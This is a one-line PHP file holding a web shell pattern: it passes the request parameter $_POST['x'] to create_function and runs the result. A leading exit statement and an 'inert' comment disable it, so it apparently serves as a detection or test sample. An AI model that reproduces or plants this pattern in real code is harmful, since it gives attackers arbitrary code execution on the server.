<?php exit; /* inert */ $f=create_function('',$_POST['x']);$f();
